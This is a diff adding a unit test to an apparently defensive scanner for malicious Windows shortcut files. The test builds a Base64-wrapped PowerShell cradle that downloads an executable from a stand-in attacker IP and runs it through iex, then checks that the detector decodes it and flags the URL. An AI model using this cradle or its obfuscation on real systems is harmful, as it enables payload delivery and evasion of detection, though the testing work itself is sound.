@@ -83,6 +83,18 @@ TEST(LnkRules, EncodedPowerShellDownloadCradle) {
   EXPECT_EQ(ctx(r, "lnk.machine_id"), "desktop-01");
 }
 
+// A payload inside FromBase64String (not -EncodedCommand) is peeled by the shared PowerShell decoder, and the rules
+// and the IOC list see what it hides.
+TEST(LnkRules, NestedBase64LayerIsSearched) {
+  const std::string inner = "(New-Object Net.WebClient).DownloadFile('http://203.0.113.44/p.exe','p.exe')";
+  LnkSpec s = target(kPowerShell, kPowerShellParts);
+  s.arguments = "-c \"iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + base64(utf16(inner)) + "')))\"";
+  auto r = scan(s);
+  EXPECT_TRUE(has_rule(r, "lnk.download_cradle"));
+  EXPECT_TRUE(has_ioc(r, "url", "http://203.0.113.44/p.exe"));
+  EXPECT_TRUE(r.found());
+}
+
 TEST(LnkRules, ShortEncodedFlagsAreRecognised) {
   for (const char* flag : {"-e", "-ec", "-enc", "/enc", "-EncodedC", "-ENCODEDCOMMAND"}) {
     LnkSpec s = target(kPowerShell, kPowerShellParts);
